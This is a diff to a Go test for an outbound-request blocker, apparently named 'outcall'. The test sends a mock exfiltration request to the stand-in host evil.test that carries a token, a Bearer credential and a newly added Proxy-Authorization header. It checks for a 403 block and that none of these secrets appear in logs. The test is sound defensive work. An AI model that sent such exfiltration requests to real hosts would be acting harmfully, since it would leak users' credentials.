@@ -114,7 +114,7 @@ func TestBlockedRequests(t *testing.T) {
 		t.Run(tt.name, func(t *testing.T) {
 			e := start(t, tt.rules, nil)
 			e.res.set("evil.test", publicAddr)
-			res := e.roundTrip("GET http://evil.test/exfiltrate?token=s3cr3t HTTP/1.1\r\nHost: evil.test\r\nAuthorization: Bearer tok-123\r\n\r\n")
+			res := e.roundTrip("GET http://evil.test/exfiltrate?token=s3cr3t HTTP/1.1\r\nHost: evil.test\r\nAuthorization: Bearer tok-123\r\nProxy-Authorization: Basic cHJveHk6cHc=\r\n\r\n")
 			if res.Status != 403 || res.Header.Get("X-Outcall-Block-Reason") != tt.reason || res.Body != "Blocked by outcall: "+tt.reason {
 				t.Errorf("got %d %q %q, want 403 reason %q", res.Status, res.Header.Get("X-Outcall-Block-Reason"), res.Body, tt.reason)
 			}
@@ -125,7 +125,7 @@ func TestBlockedRequests(t *testing.T) {
 				t.Errorf("status %+v, want 1 request 1 blocked", st)
 			}
 			logs := e.logs.String()
-			for _, secret := range []string{"s3cr3t", "tok-123", "exfiltrate", "Bearer"} {
+			for _, secret := range []string{"s3cr3t", "tok-123", "exfiltrate", "Bearer", "cHJveHk6cHc="} {
 				if strings.Contains(logs, secret) {
 					t.Errorf("logs contain %q:\n%s", secret, logs)
 				}
